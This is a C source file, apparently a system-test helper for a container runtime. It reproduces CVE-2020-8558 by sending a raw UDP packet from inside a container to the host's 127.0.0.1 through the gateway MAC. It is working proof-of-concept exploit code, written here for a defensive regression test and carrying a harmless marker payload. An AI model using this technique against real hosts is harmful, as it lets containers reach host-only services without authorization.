/* SPDX-License-Identifier: MIT */
/*
 * The CVE-2020-8558 probe of tests/system/187-escapes.bats: from inside a
 * container, send one UDP datagram to 127.0.0.1:PORT through the gateway's
 * MAC address with a packet socket (CAP_NET_RAW, which docker's default set
 * has). A host whose bridge has route_localnet and no guard delivers it to
 * its loopback-only listener.
 * Usage: lo-send GATEWAY_MAC SOURCE_IP PORT
 */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

static unsigned short checksum(const void *data, int len)
{
	const unsigned short *p = data;
	unsigned long sum = 0;

	for (; len > 1; len -= 2)
		sum += *p++;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (unsigned short) ~sum;
}

int main(int argc, char **argv)
{
	static const char msg[] = "FROM-THE-CONTAINER";
	unsigned char pkt[256] = {0};
	struct iphdr *ip = (struct iphdr *) pkt;
	struct udphdr *udp = (struct udphdr *) (pkt + sizeof(*ip));
	struct sockaddr_ll to = {
		.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = 6};
	int s, ulen = (int) (sizeof(*udp) + strlen(msg));

	if (argc != 4)
		return 2;
	s = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	if (s < 0) {
		perror("socket");
		return 1;
	}
	to.sll_ifindex = (int) if_nametoindex("eth0");
	if (sscanf(argv[1], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &to.sll_addr[0], &to.sll_addr[1],
		   &to.sll_addr[2], &to.sll_addr[3], &to.sll_addr[4], &to.sll_addr[5]) != 6)
		return 2;
	memcpy(pkt + sizeof(*ip) + sizeof(*udp), msg, strlen(msg));
	ip->ihl = 5;
	ip->version = 4;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->saddr = inet_addr(argv[2]);
	ip->daddr = inet_addr("127.0.0.1");
	ip->tot_len = htons((unsigned short) (sizeof(*ip) + ulen));
	ip->check = checksum(ip, sizeof(*ip));
	udp->source = htons(40000);
	udp->dest = htons((unsigned short) atoi(argv[3]));
	udp->len = htons((unsigned short) ulen);
	if (sendto(s, pkt, sizeof(*ip) + ulen, 0, (struct sockaddr *) &to, sizeof(to)) < 0) {
		perror("sendto");
		return 1;
	}
	puts("sent");
	return 0;
}
